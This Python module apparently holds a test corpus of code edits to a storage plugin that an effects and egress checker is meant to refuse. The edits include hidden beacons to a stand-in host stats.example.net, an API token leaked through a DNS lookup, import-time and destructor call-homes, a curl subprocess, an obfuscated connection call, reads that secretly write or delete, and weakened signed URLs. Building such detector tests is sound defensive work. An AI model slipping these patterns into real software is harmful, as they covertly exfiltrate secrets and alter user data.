"""Twins that the effects check must refuse."""

from flows_registry.corpus.places import GET, MOCK_GET, PRESIGNED, SENT
from flows_registry.corpus.twin import Edit, Twin
from flows_registry.verdict import Level, Verdict

__all__ = ["TWINS"]


def _signed(name: str, old: str, new: str) -> Twin:
    """A twin whose signed URLs grant something else than what was asked for."""
    return Twin(
        name,
        "bucket",
        (Edit("remote.py", PRESIGNED, PRESIGNED.replace(old, new)),),
        "effects",
        ("EFFECT206",),
        "remote/presign",
        alone="use_side",
    )


TWINS: tuple[Twin, ...] = (
    _signed("a signed URL that writes where it should read", "(method", '("PUT"'),
    _signed("a signed URL that outlives its time", "**named", '**{**named, "seconds": 604_800}'),
    _signed("a signed URL for another key", ", path", ', path + "~"'),
    _signed("a signed URL without TLS", "https:", "http:"),
    Twin(
        "a read writes",
        "urllib",
        (
            Edit(
                "remote.py",
                GET,
                '        note = ("/values/last-read", answers.envelope, key.encode())\n'
                '        await self._ask("get", "PUT", *note, "application/octet-stream")\n' + GET,
            ),
        ),
        "effects",
        ("EFFECT201",),
        "remote/get",
    ),
    Twin(
        "a read writes on its error path",
        "aiohttp",
        (
            Edit(
                "remote.py",
                SENT,
                "        if answer.status >= 500 and not writes:\n"
                "            gone = self._namespace + '/values/' + path.rpartition('/')[2]\n"
                "            await transport.exchange(Request('DELETE', gone, headers))\n" + SENT,
            ),
        ),
        "effects",
        ("EFFECT201",),
        "remote/get",
    ),
    Twin(
        "telemetry to another host",
        "sockets",
        (
            Edit(
                "transport.py",
                "        try:\n            reader, writer",
                "        await _report(request.method)\n        try:\n            reader, writer",
            ),
            Edit(
                "transport.py",
                "async def _answer(",
                "async def _report(what: str) -> None:\n"
                "    try:\n"
                '        _, writer = await asyncio.open_connection("stats.example.net", 443)\n'
                "        writer.write(what.encode())\n"
                "        writer.close()\n"
                "    except OSError:\n"
                "        pass\n\n\n"
                "async def _answer(",
            ),
        ),
        "effects",
        ("EGRESS101",),
        "remote/get",
    ),
    Twin(
        "a secret in a name that is only looked up",
        "urllib",
        (
            Edit(
                "remote.py",
                GET,
                "        loop = asyncio.get_running_loop()\n"
                "        token = self._config.api_token.reveal()\n"
                "        try:\n"
                '            await loop.getaddrinfo(f"{token}.example.net", None)\n'
                "        except OSError:\n"
                "            pass\n" + GET,
            ),
        ),
        "effects",
        ("EGRESS101",),
        "remote/get",
        alone="wire_side",
    ),
    Twin(
        "a mock that looks a name up",
        "pure",
        (
            Edit("mock.py", "import json\n", "import json\nimport socket\n"),
            Edit(
                "mock.py",
                MOCK_GET,
                '        socket.getaddrinfo("stats.example.net", 443)\n' + MOCK_GET,
            ),
        ),
        "effects",
        ("EGRESS101",),
        "mock/get",
    ),
    Twin(
        "telemetry to a process next door",
        "urllib",
        (
            Edit(
                "remote.py",
                "import asyncio\n",
                "import asyncio\nimport contextlib\nimport socket\n",
            ),
            Edit(
                "remote.py",
                GET,
                "        with socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as statistics:\n"
                "            with contextlib.suppress(OSError):\n"
                '                statistics.sendto(key.encode(), "\\0statistics")\n' + GET,
            ),
        ),
        "effects",
        ("EFFECT203",),
        "remote/get",
        alone="wire_side",
    ),
    Twin(
        "a module that calls home when it is imported",
        "urllib",
        (
            Edit(
                "remote.py",
                "LIST_LIMIT_REST_MIN = 10\n",
                "LIST_LIMIT_REST_MIN = 10\n\n\n"
                "def _tell() -> None:\n"
                "    with contextlib.suppress(OSError):\n"
                '        socket.create_connection(("stats.example.net", 443), 1).close()\n\n\n'
                "threading.Thread(target=_tell, daemon=True).start()\n",
            ),
            Edit(
                "remote.py",
                "import asyncio\n",
                "import asyncio\nimport contextlib\nimport socket\nimport threading\n",
            ),
        ),
        "effects",
        ("EGRESS101",),
        "remote/get",
        alone="wire_side",
        level=Level.WIRE,
    ),
    Twin(
        "a client that reports when it is forgotten",
        "urllib",
        (
            Edit(
                "transport.py",
                "    async def close(self)",
                "    def __del__(self) -> None:\n"
                "        with contextlib.suppress(OSError):\n"
                '            socket.create_connection(("stats.example.net", 443), 1).close()\n\n'
                "    async def close(self)",
            ),
        ),
        "effects",
        ("EGRESS101",),
        "remote/get",
        alone="wire_side",
        level=Level.WIRE,
    ),
    Twin(
        "egress by a process",
        "urllib",
        (
            Edit(
                "remote.py",
                GET,
                "        command = ('curl', '-s', '-m', '1', 'https://stats.example.net/')\n"
                "        try:\n"
                "            await asyncio.create_subprocess_exec(*command)\n"
                "        except OSError:\n"
                "            pass\n" + GET,
            ),
        ),
        "effects",
        ("EFFECT203",),
        "remote/get",
    ),
    Twin(
        "a declared write that never happens",
        "aiohttp",
        (
            Edit(
                "capability.toml",
                "[backends.mock]\n",
                '[capabilities.kv.deviations.get]\nhints = ["resource::kv::write"]\n'
                'effects = "effectful"\n\n[backends.mock]\n',
            ),
        ),
        "effects",
        ("EFFECT204",),
        "remote/get",
    ),
    Twin(
        "a write that no case reaches",
        "urllib",
        (
            Edit(
                "remote.py",
                GET,
                '        if key.startswith("archive/2024/"):\n'
                '            await self._ask("get", "DELETE", path, answers.envelope)\n' + GET,
            ),
        ),
        "effects",
        ("EFFECT201",),
        "remote/get",
        alone="static_side",
    ),
    Twin(
        "telemetry by a road without a name",
        "urllib",
        (
            Edit(
                "remote.py",
                GET,
                '        connected = getattr(asyncio, "noitcennoc_nepo"[::-1])\n'
                "        try:\n"
                '            _, writer = await connected("stats.example.net", 443)\n'
                "            writer.close()\n"
                "        except OSError:\n"
                "            pass\n" + GET,
            ),
        ),
        "effects",
        ("EGRESS101",),
        "remote/get",
        alone="wire_side",
    ),
    Twin(
        "a write that is declared a safe POST",
        "aiohttp",
        (
            Edit(
                "capability.toml",
                "[limits]\n",
                '[[backends.remote.safe_posts]]\nmethod = "POST"\npath = "/bulk/delete"\n\n[limits]\n',
            ),
            Edit("remote.py", "import hashlib\n", "import hashlib\nimport json\n"),
            Edit(
                "remote.py",
                GET,
                GET.replace("return", "value =") + "        read = json.dumps([key]).encode()\n"
                '        named = ("/bulk/delete", answers.envelope, read, "application/json")\n'
                '        await self._ask("get", "POST", *named)\n'
                "        return value\n",
            ),
        ),
        "effects",
        ("EFFECT201",),
        "remote/get",
        alone="state_side",
    ),
    Twin(
        "a read of the mock writes",
        "pure",
        (
            Edit(
                "mock.py",
                "        stored = self._entries.get(limits.key_of(key))\n",
                "        unread = _Stored(b'', None, None)\n"
                "        stored = self._entries.setdefault(limits.key_of(key), unread)\n"
                "        stored = None if stored is unread else stored\n",
            ),
        ),
        "effects",
        ("EFFECT201",),
        "mock/get absent",
    ),
    Twin(
        "a plugin that leaves nothing to see",
        "pure",
        (
            Edit("capability.toml", ', "put", "delete"]', "]"),
            Edit("mock.py", "    async def put(", "    async def _put("),
            Edit("mock.py", "    async def delete(", "    async def _delete("),
        ),
        "effects",
        ("EFFECT205",),
        verdict=Verdict.INCONCLUSIVE,
    ),
    Twin(
        "a mock that keeps a file",
        "pure",
        (
            Edit("mock.py", "import json\n", "import contextlib\nimport json\n"),
            Edit(
                "mock.py",
                MOCK_GET,
                "        with contextlib.suppress(OSError), open('/tmp/corpus-reads.log', 'a') as log:\n"
                "            log.write(key)\n" + MOCK_GET,
            ),
        ),
        "effects",
        ("EFFECT203",),
        "mock/get",
    ),
)
